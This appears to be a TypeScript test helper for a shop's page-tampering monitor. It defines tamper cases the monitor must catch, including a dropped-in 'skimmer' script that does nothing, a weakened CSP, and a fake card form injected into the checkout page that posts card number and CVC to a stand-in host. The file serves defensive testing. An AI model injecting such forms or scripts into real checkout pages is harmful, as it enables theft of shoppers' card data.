// The tamper cases of issue 11, played the same way at both page-watch levels: a rewrite of what
// the shop serves, applied to an HTTP walk's fetch or to the browser's responses (page.route).
// The added script is a real file in the shop's public/ directory (served by the shop itself).
import { randomBytes } from 'node:crypto';
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { PUBLIC_DIR } from '../../src/layout/static-assets.ts';
import type { Difference } from '../../src/page-watch/compare.ts';
import type { PageFetch } from '../../src/page-watch/walk-to-payment.ts';

export interface PageTamper {
  name: string;
  path: RegExp;
  html?: (html: string) => string;
  body?: (body: string) => string;
  headers?: (headers: Headers) => void;
  /** A difference the monitor must report for it. */
  expected: Difference['type'];
}

/** A script an intruder dropped into public/ (removed again by `remove`). */
export function skimmerInPublicDir(): { href: string; remove: () => void } {
  const file = `pw-tamper-${randomBytes(4).toString('hex')}.js`;
  writeFileSync(path.join(PUBLIC_DIR, file), 'document.addEventListener("submit", () => {});\n');
  return { href: `/static/${file}`, remove: () => rmSync(path.join(PUBLIC_DIR, file), { force: true }) };
}

export function issueTamperCases(skimmerHref: string): PageTamper[] {
  return [
    { name: 'a script from public/ added to the checkout page', path: /^\/checkout$/, html: (h) => h.replace('</body>', `<script src="${skimmerHref}"></script></body>`), expected: 'script-added' },
    { name: 'a changed stylesheet', path: /^\/static\/shop\.css$/, body: (css) => `${css}\n.checkout-form{display:none}`, expected: 'stylesheet-changed' },
    {
      name: 'a fake card form injected into the checkout view', path: /^\/checkout$/,
      html: (h) => h.replace('<aside', '<form method="post" action="https://pay-mamori.example/collect"><label for="cn">カード番号</label><input id="cn" name="cn"><input name="cvc"></form><aside'),
      expected: 'card-field-added',
    },
    {
      name: "a CSP with 'unsafe-inline'", path: /^\/checkout$/,
      headers: (h) => h.set('content-security-policy', h.get('content-security-policy')!.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
      expected: 'csp-weakened',
    },
  ];
}

function rewrite(t: PageTamper, contentType: string, body: string, headers: Headers): string {
  let out = body;
  if (t.html && contentType.startsWith('text/html')) out = t.html(out);
  if (t.body) out = t.body(out);
  t.headers?.(headers);
  headers.delete('content-length');
  return out;
}

/** The HTTP level: a fetch that serves `current()`'s rewrite. */
export function tamperedFetch(inner: PageFetch, current: () => PageTamper | undefined): PageFetch {
  return async (url, init) => {
    const res = await inner(url, init);
    const t = current();
    if (!t || !t.path.test(new URL(url).pathname)) return res;
    const headers = new Headers(res.headers);
    const body = rewrite(t, headers.get('content-type') ?? '', await res.text(), headers);
    return new Response(body, { status: res.status, headers });
  };
}

/** The browser level: routes the page's responses through `current()`'s rewrite. */
export async function tamperInBrowser(page: Page, current: () => PageTamper | undefined): Promise<void> {
  await page.route((url) => { const t = current(); return t !== undefined && t.path.test(url.pathname); }, async (route) => {
    const t = current();
    const res = await route.fetch();
    if (!t) return route.fulfill({ response: res });
    const headers = new Headers(res.headers());
    const body = rewrite(t, headers.get('content-type') ?? '', await res.text(), headers);
    const plain: Record<string, string> = {};
    headers.forEach((v, k) => { plain[k] = v; });
    return route.fulfill({ status: res.status(), headers: plain, body });
  });
}
